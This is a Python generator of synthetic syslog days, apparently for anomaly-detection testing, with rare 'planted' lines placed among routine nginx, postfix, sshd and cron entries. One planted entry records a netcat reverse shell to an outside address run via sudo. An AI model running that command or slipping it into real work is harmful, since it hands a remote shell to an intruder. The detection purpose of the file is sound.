"""A day of syslog lines, made from a seed: hosts, daemons, pids, addresses, rare errors."""

import random

HOSTS = ("web1", "web2", "db1", "mail")
USERS = ("alice", "bob", "carol", "deploy", "backup")
PATHS = ("/", "/index.html", "/api/v1/items", "/api/v1/users", "/static/app.css", "/health")
UNITS = ("logrotate.service", "fstrim.service", "certbot.service", "session-%d.scope")

# What no daemon of these hosts ever says otherwise.
PLANTED = (
    "kernel: BUG: unable to handle page fault for address: ffffb1c2403fbe80",
    "sudo: www-data : TTY=unknown ; PWD=/tmp ; USER=root ; COMMAND=/bin/nc -e /bin/sh 203.0.113.9",
    "kernel: EXT4-fs error (device sda1): ext4_find_entry:1455: inode #2: reading directory lblock",
    "sshd[4021]: fatal: buffer_get_string: bad string length 4294967295 [preauth]",
    "mysqld[911]: InnoDB: Database page corruption on disk or a failed file read of page 1337",
)


def address(rng):
    return f"10.0.{rng.randrange(4)}.{rng.randrange(1, 255)}"


def message(rng, host, pids, sessions):
    """What one daemon says, by how often it speaks."""
    kind = rng.random()
    if host == "mail" and kind < 0.6:
        queue = f"{rng.randrange(16**10):010X}"
        size = rng.randrange(800, 90000)
        return f"postfix/qmgr[{pids['qmgr']}]: {queue}: from=<{rng.choice(USERS)}@example.org>, " \
               f"size={size}, nrcpt=1 (queue active)"  # fmt: skip
    if host.startswith("web") and kind < 0.7:
        status = rng.choices((200, 304, 404, 500), (80, 14, 5.5, 0.5))[0]
        return f'nginx: {address(rng)} "GET {rng.choice(PATHS)} HTTP/1.1" {status} ' \
               f"{rng.randrange(200, 20000)}"  # fmt: skip
    if host == "db1" and kind < 0.5:
        return f"mysqld[{pids['mysqld']}]: slow query: {rng.uniform(1, 9):.2f} s, rows " \
               f"{rng.randrange(1, 4000)}, user {rng.choice(USERS)}"  # fmt: skip
    if kind < 0.8:
        return f"sshd[{rng.randrange(1000, 32768)}]: Accepted publickey for {rng.choice(USERS)} " \
               f"from {address(rng)} port {rng.randrange(32768, 61000)} ssh2"  # fmt: skip
    if kind < 0.88:
        sessions[0] += 1
        unit = rng.choice(UNITS)
        unit = unit % sessions[0] if "%" in unit else unit
        return f"systemd[1]: {rng.choice(('Started', 'Stopped'))} {unit}."
    if kind < 0.985:
        user = rng.choice(USERS)
        return f"CRON[{rng.randrange(1000, 32768)}]: ({user}) CMD (/usr/local/bin/{user}-job.sh)"
    return f"sshd[{rng.randrange(1000, 32768)}]: Failed password for invalid user " \
           f"{rng.choice(('admin', 'test', 'oracle'))} from {address(rng)} port " \
           f"{rng.randrange(32768, 61000)} ssh2"  # fmt: skip


def syslog_day(lines, planted, seed=1):
    """``lines`` lines spread over a day, and the places of the ``planted`` ones, in order.

    The planted ones lie in the last three fifths, so that what is usual is known by then.
    """
    rng = random.Random(seed)
    pids = {name: rng.randrange(400, 4000) for name in ("qmgr", "mysqld")}
    sessions = [100]
    places = sorted(rng.sample(range(2 * lines // 5, lines), planted))
    text = []
    for i in range(lines):
        second = i * 86400 // lines
        clock = f"{second // 3600:02d}:{second // 60 % 60:02d}:{second % 60:02d}"
        host = rng.choices(HOSTS, (5, 4, 2, 2))[0]
        said = message(rng, host, pids, sessions)
        if i in places:
            said = PLANTED[places.index(i) % len(PLANTED)]
        text.append(f"Mar 14 {clock} {host} {said}")
    return text, places
